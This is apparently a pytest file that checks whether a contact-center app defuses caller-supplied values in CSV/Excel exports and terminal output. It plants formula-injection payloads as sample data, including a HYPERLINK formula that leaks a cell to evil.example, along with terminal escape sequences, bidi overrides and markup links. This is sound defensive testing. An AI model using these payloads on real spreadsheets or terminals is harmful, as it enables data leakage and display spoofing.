"""Exports and terminal output are safe (issue 15): a caller's number or name, which comes from the SIP From
header and so from anyone who can call, opens in Excel as text, never as a formula, and reaches a terminal
without escape sequences, bidi overrides or rich markup it could use."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from contactcenter.cli import cli
from contactcenter.output import FORMULA_TRIGGERS, excel_cell, spreadsheet_cell, terminal_text
from contactcenter.records import CallRecord, ComplianceReport, RuleHitRecord, RuleResult, UtteranceRecord
from contactcenter.storage import Database
from contactcenter.storage.calls import save_call
from contactcenter.storage.models import Agent, Ticket
from tests.helpers.web import START, client_as

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
PAYLOADS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
PERIOD = {"since": "2026-11-01", "until": "2026-11-30"}
ESCAPES = "\x1b[2J\x1b]0;已被接管\x07\x1b[31m"  # clear the screen, retitle the window, turn the text red


@pytest.fixture
def database_url(tmp_path: Path) -> str:
    """SQLite only: the safety is in the writers, not in the database."""
    return f"sqlite:///{tmp_path / 'store.db'}"


# ------------------------------------------------------------------------------------------ the function


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("+8613800138000", "'+8613800138000"),  # a text number with + is neutralised too, as OWASP says
        ("＝1+1", "'＝1+1"),  # the full-width = a Chinese input method types
        ("  =1+1", "'  =1+1"),  # blanks before it do not hide the formula
        ("\x1b[0m=1+1", "'=1+1"),  # nor does an escape sequence or a control character, which no
        ("\x00@SUM(A1)", "'@SUM(A1)"),  # worksheet can hold anyway
        ("李\x07先生\x1b[2J", "李先生"),
        ("李先生", "李先生"),
        ("13800138000", "13800138000"),
        ("a=1", "a=1"),
        ("'=1", "'=1"),  # already text
        ("-", "-"),  # the usual "none": no formula
        ("", ""),
        ("第一行\n第二行", "第一行\n第二行"),
        (-3.5, -3.5),  # genuine numbers stay numbers
        (-2, -2),
        (0, 0),
        (None, None),
        (True, True),
        (timedelta(seconds=90), timedelta(seconds=90)),
    ],
)
def test_spreadsheet_cell_neutralises_formula_triggers_in_text_only(value: Any, cell: Any) -> None:
    """Text that starts like a formula is quoted; numbers, durations and None keep their type."""
    result = spreadsheet_cell(value)
    assert result == cell and type(result) is type(cell)


@pytest.mark.parametrize(
    ("value", "shown", "quote_prefix"),
    [
        (HYPERLINK, HYPERLINK, True),
        ("+8613800138000", "+8613800138000", True),
        ("\t=1", "\t=1", True),
        ("＝1+1", "＝1+1", True),
        ("  =1+1", "  =1+1", True),
        ("\x1b[0m=1+1", "=1+1", True),
        ("\x00@SUM(A1)", "@SUM(A1)", True),
        ("#N/A", "#N/A", False),  # text, not Excel's error value
        ("李\x07先生", "李先生", False),
        ("'=1", "'=1", False),  # already text: the quote is part of it
        ("-", "-", False),
        ("", None, False),  # an empty string cell is no cell
        (-3.5, -3.5, False),
        (7, 7, False),
        (None, None, False),
    ],
)
def test_excel_cell_is_a_string_with_the_quote_prefix_not_a_formula(value: Any, shown: Any, quote_prefix: bool) -> None:
    """Written and read back with openpyxl: text is a string cell, formula-like text has Excel's quote prefix
    and no quote of its own, numbers stay numbers."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("表")
    sheet.append([excel_cell(sheet, value)])
    buffer = io.BytesIO()
    book.save(buffer)
    cell = load_workbook(buffer)["表"]["A1"]
    assert cell.value == shown and type(cell.value) is type(shown)
    if shown is not None:  # an empty cell reads back as None whatever its type
        assert cell.data_type == ("s" if isinstance(shown, str) else "n")
    assert cell.quotePrefix is quote_prefix


@pytest.mark.parametrize(
    ("value", "text", "line"),
    [
        (f"{ESCAPES}李先生\x1b[0m", "李先生", "李先生"),
        ("\u202e0008 0013 831\u202c", "0008 0013 831", "0008 0013 831"),  # Trojan Source reordering
        ("\u2066a\u2067b\u2068c\u2069\u202a\u202b\u202d", "abc", "abc"),
        ("响铃\x07\x08退格\x7f\x9b2J\x85", "响铃退格2J", "响铃退格2J"),  # C0, DEL, C1 (8-bit CSI, NEL)
        ("第一行\r伪造的一行", "第一行\n伪造的一行", "第一行 伪造的一行"),  # CR cannot overwrite the line
        ("第一行\r\n第二行\t结束", "第一行\n第二行 结束", "第一行 第二行 结束"),
        ("[bold red]免费[/]", "[bold red]免费[/]", "[bold red]免费[/]"),  # markup is the table's business
        (-3.5, "-3.5", "-3.5"),
        (None, "", ""),
    ],
)
def test_terminal_text_strips_what_a_terminal_would_obey(value: Any, text: str, line: str) -> None:
    """Escape sequences, C0/C1 controls and bidi overrides go; CR and tab become harmless."""
    assert terminal_text(value) == text
    assert terminal_text(value, one_line=True) == line


# -------------------------------------------------------------------------------------- the web exports


def plant_calls(database: Database) -> None:
    """A call from each payload number and name, filed under it, with a finding that matched it; agent
    1001 renamed to the HYPERLINK and put in team @SUM(A1) (names are typed by people too)."""
    with database.session() as session:
        for n, payload in enumerate(PAYLOADS):
            invited = START + timedelta(days=1, hours=n)
            call = CallRecord(
                sip_call_id=f"planted-{n}",
                remote_number=payload,
                caller_name=payload,
                agent_extension="1001",
                invited_at=invited,
                answered_at=invited + timedelta(seconds=5),
                ended_at=invited + timedelta(minutes=2),
                rings_before_answer=1,
                disposition="completed",
                hung_up_first="customer",
                category=payload,
            )
            hit = RuleHitRecord(
                rule_id="banned_phrases",
                kind="violation",
                severity="critical",
                leg="customer",
                at_s=1.0,
                matched_text=payload,
            )
            utterance = UtteranceRecord(leg="customer", start_s=0.5, end_s=2.0, text=payload)
            report = ComplianceReport(
                score=12.5, results=(RuleResult(rule_id="banned_phrases", passed=False, severity="critical"),)
            )
            save_call(session, call, [utterance], [hit], report)
    with database.session() as session:
        agent = session.query(Agent).filter_by(extension="1001").one()
        agent.name, agent.team = HYPERLINK, "@SUM(A1)"


def assert_no_live_text(cells: list[Any]) -> None:
    """No text cell starts like a formula (the quote prefix is the only way a trigger may follow)."""
    for cell in cells:
        if isinstance(cell, str):
            assert not cell.lstrip(" \u3000").startswith(FORMULA_TRIGGERS) or cell == "-", repr(cell)


def read_csv(body: bytes) -> list[dict[str, str]]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text[1:], newline="")))
    for row in rows:
        assert_no_live_text([*row, *row.values()])
    return rows


def assert_text_cells(cells: list[Any]) -> None:
    """Every text cell of a workbook is a string cell, never a formula; one that starts like a formula has
    Excel's quote prefix (so Excel shows it as typed and an edit keeps it text) and no quote of its own."""
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for cell in cells:
        if not isinstance(cell.value, str):
            continue
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        formula_like = cell.value.lstrip(" \u3000").startswith(FORMULA_TRIGGERS) and cell.value != "-"
        assert cell.quotePrefix is formula_like, (cell.coordinate, cell.value, cell.quotePrefix)
        assert not (formula_like and cell.value.startswith("'")), (cell.coordinate, cell.value)


def read_xlsx(body: bytes) -> dict[str, list[dict[str, Any]]]:
    """Every sheet as rows by heading, after checking that no cell is a formula and text is text."""
    book = load_workbook(io.BytesIO(body))
    sheets = {}
    for sheet in book.worksheets:
        assert isinstance(sheet, Worksheet)
        assert_text_cells([cell for row in sheet.iter_rows() for cell in row])
        values = list(sheet.iter_rows(values_only=True))
        sheets[sheet.title] = [dict(zip(values[0], row, strict=False)) for row in values[1:]]
    return sheets


QUOTED = {"'" + payload for payload in PAYLOADS}


def test_calls_csv_export_quotes_a_planted_number(console: dict) -> None:
    plant_calls(console["database"])
    answer = client_as(console, "zhao").get("/api/export/calls.csv")
    assert answer.status_code == 200, answer.text
    rows = read_csv(answer.content)
    assert {r["客户号码"] for r in rows} >= QUOTED
    assert {r["类别"] for r in rows} >= QUOTED
    assert "12.5" in {r["质检得分"] for r in rows}  # a number is written as the number


def test_calls_csv_export_quotes_a_masked_number_too(console: dict) -> None:
    """A reviewer sees 138****8000-style masks: =HY…… masked still starts with = and is quoted."""
    plant_calls(console["database"])
    rows = read_csv(client_as(console, "lin").get("/api/export/calls.csv").content)
    assert any(r["客户号码"].startswith("'=HY") for r in rows)


def test_calls_xlsx_export_writes_text_not_formulas(console: dict) -> None:
    """In a workbook the payload is a string cell with the quote prefix: shown as typed, no quote visible."""
    plant_calls(console["database"])
    answer = client_as(console, "zhao").get("/api/export/calls.xlsx")
    assert answer.status_code == 200, answer.text
    rows = read_xlsx(answer.content)["通话"]
    assert {r["客户号码"] for r in rows} >= set(PAYLOADS)
    assert {r["类别"] for r in rows} >= set(PAYLOADS)
    assert 12.5 in {r["质检得分"] for r in rows}  # and stays a number


def test_findings_csv_export_quotes_a_planted_match(console: dict) -> None:
    plant_calls(console["database"])
    rows = read_csv(client_as(console, "zhao").get("/api/export/findings.csv").content)
    assert {r["命中内容"] for r in rows} >= QUOTED


def test_findings_xlsx_export_writes_text_not_formulas(console: dict) -> None:
    plant_calls(console["database"])
    rows = read_xlsx(client_as(console, "zhao").get("/api/export/findings.xlsx").content)["违规"]
    assert {r["命中内容"] for r in rows} >= set(PAYLOADS)


def test_scorecards_csv_export_quotes_a_planted_agent_name(console: dict) -> None:
    plant_calls(console["database"])
    answer = client_as(console, "lin").get("/api/export/scorecards.csv", params={**PERIOD, "part": "groups"})
    groups = read_csv(answer.content)
    assert ("'" + HYPERLINK, "'@SUM(A1)") in {(r["坐席"], r["班组"]) for r in groups}


def test_the_scorecard_zip_quotes_a_planted_agent_name_in_every_table(console: dict) -> None:
    """The CSV link's ZIP: every table formula-safe; the planted name quoted in the agents' table."""
    plant_calls(console["database"])
    answer = client_as(console, "lin").get("/api/export/scorecards.csv", params=PERIOD)
    assert answer.status_code == 200 and answer.content.startswith(b"PK")
    with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
        tables = {name: read_csv(archive.read(name)) for name in archive.namelist()}
    assert ("'" + HYPERLINK, "'@SUM(A1)") in {(r["坐席"], r["班组"]) for r in tables["02_坐席.csv"]}


def test_scorecards_xlsx_export_writes_text_not_formulas(console: dict) -> None:
    plant_calls(console["database"])
    answer = client_as(console, "lin").get("/api/export/scorecards.xlsx", params=PERIOD)
    assert answer.status_code == 200, answer.text
    sheets = read_xlsx(answer.content)
    assert (HYPERLINK, "@SUM(A1)") in {(r["坐席"], r["班组"]) for r in sheets["坐席"]}


def test_an_escape_in_a_caller_name_does_not_break_the_excel_export(console: dict) -> None:
    """openpyxl refuses control characters: an ESC in a From header once made the download fail."""
    with console["database"].session() as session:
        call = CallRecord(
            sip_call_id="escaped", remote_number=f"{ESCAPES}=1+1", agent_extension="1001", invited_at=START
        )
        save_call(session, call)
    answer = client_as(console, "zhao").get("/api/export/calls.xlsx")
    assert answer.status_code == 200, answer.text
    assert "=1+1" in {r["客户号码"] for r in read_xlsx(answer.content)["通话"]}


# ------------------------------------------------------------------------------------------ the commands


@pytest.fixture
def cli_env(desk: Path, database_url: str) -> dict[str, str | None]:
    """The desk's environment for CliRunner, upgraded; a wide plain terminal (no forced colour)."""
    database = Database(database_url)
    database.upgrade()
    database.dispose()
    return {
        "CONTACTCENTER_SETTINGS": str(desk),
        "CONTACTCENTER_DATABASE__URL": database_url,
        "COLUMNS": "400",
        "FORCE_COLOR": None,
        "TTY_COMPATIBLE": None,
        "TTY_INTERACTIVE": None,
    }


def add_tickets(database_url: str, **fields: str) -> None:
    """A complaint ticket per payload, with ``fields`` set to their value, or to the payload where empty."""
    database = Database(database_url)
    with database.session() as session:
        session.add_all([Ticket(category="投诉", **{k: v or p for k, v in fields.items()}) for p in PAYLOADS])
    database.dispose()


def test_tickets_csv_quotes_planted_caller_fields(cli_env: dict, database_url: str) -> None:
    add_tickets(database_url, caller_name="", caller_phone="", purpose="")
    result = CliRunner().invoke(cli, ["tickets", "list", "--csv"], env=cli_env)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output, newline="")))
    for row in rows:
        assert_no_live_text(list(row.values()))
    quoted_tab = {q.replace("\t", " ") for q in QUOTED}  # a tab is a space on the terminal
    assert {r["caller_name"] for r in rows} == {r["caller_phone"] for r in rows} == quoted_tab
    assert {r["purpose"] for r in rows} == quoted_tab


def test_callbacks_csv_quotes_a_planted_number_and_reason(cli_env: dict) -> None:
    runner = CliRunner()
    for payload in PAYLOADS:
        added = runner.invoke(
            cli, ["callbacks", "add", "+8613800138000", f"--reason={payload}", "--due", "2026-12-01 10:00"], env=cli_env
        )
        assert added.exit_code == 0, added.output
    result = runner.invoke(cli, ["callbacks", "list", "--csv"], env=cli_env)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    for row in rows:
        assert_no_live_text(list(row.values()))
    assert {r["phone"] for r in rows} == {"'+8613800138000"}
    assert {r["reason"] for r in rows} == {q.replace("\t", " ") for q in QUOTED}


def test_a_ticket_table_prints_no_escape_and_no_markup(cli_env: dict, database_url: str) -> None:
    """A caller name with ESC sequences and rich markup is printed as plain, literal text."""
    name = f"{ESCAPES}[bold red]免费领奖[/]\u202e"
    add_tickets(database_url, caller_name=name, caller_phone="[link=http://evil.example]138[/link]", summary=name)
    runner = CliRunner()
    table = runner.invoke(cli, ["tickets", "list"], env=cli_env)
    assert table.exit_code == 0, table.output
    assert "\x1b" not in table.output and "\u202e" not in table.output and "\x07" not in table.output
    assert "[bold red]免费领奖[/]" in table.output  # printed, not interpreted
    assert "[link=http://evil.example]138[/link]" in table.output

    ticket_id = str(json.loads(runner.invoke(cli, ["tickets", "list", "--json"], env=cli_env).output)[0]["id"])
    shown = runner.invoke(cli, ["tickets", "show", ticket_id], env=cli_env)  # the key: value view, printed directly
    assert shown.exit_code == 0, shown.output
    assert "\x1b" not in shown.output and "\u202e" not in shown.output and "[bold red]免费领奖[/]" in shown.output

    as_json = runner.invoke(cli, ["tickets", "list", "--json"], env=cli_env)
    assert "\x1b" not in as_json.output and "\u202e" not in as_json.output
    assert {row["summary"] for row in json.loads(as_json.output)} == {name}  # escaped, nothing lost
